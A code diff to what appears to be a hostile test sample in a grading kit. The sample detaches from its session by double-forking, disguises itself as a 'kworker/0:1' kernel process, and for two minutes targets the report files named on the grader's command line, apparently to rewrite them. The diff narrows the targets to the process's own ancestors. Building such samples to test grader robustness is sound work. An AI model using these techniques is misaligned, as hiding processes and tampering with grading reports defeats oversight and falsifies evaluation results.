@@ -11,17 +11,8 @@ import os
 import sys
 
 ESCAPE = r'''
-import os, sys, time
-token = "hostile-escape-5c1e"
-paths = []
-for entry in os.listdir("/proc"):
-    try:
-        argv = open(f"/proc/{entry}/cmdline", "rb").read().split(b"\0")
-    except (OSError, ValueError):
-        continue
-    for flag, value in zip(argv, argv[1:]):
-        if flag in (b"--json", b"--csv"):
-            paths.append(value.decode())
+import sys, time
+paths = sys.argv[2:]
 deadline = time.time() + 120
 while time.time() < deadline:
     time.sleep(0.5)
@@ -33,10 +24,30 @@ while time.time() < deadline:
             pass
 '''
 
+
+def _ancestors_report_paths() -> list[str]:
+    """--json/--csv values on the command lines of this process's ancestors (the grader's).
+
+    Only ancestors: the kit's tests run other gradings beside this one, whose reports are not
+    this attack's to rewrite.
+    """
+    paths, pid = [], os.getpid()
+    while pid > 1:
+        try:
+            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
+            status = open(f"/proc/{pid}/status").read()
+        except OSError:
+            break
+        paths += [value.decode() for flag, value in zip(argv, argv[1:]) if flag in (b"--json", b"--csv")]
+        pid = int(status.split("PPid:")[1].split()[0])
+    return paths
+
+
+_paths = _ancestors_report_paths()
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
-        os.execve(sys.executable, ["kworker/0:1", "-c", ESCAPE, "hostile-escape-5c1e"], {})
+        os.execve(sys.executable, ["kworker/0:1", "-c", ESCAPE, "hostile-escape-5c1e", *_paths], {})
     os._exit(0)
 os.wait()
 
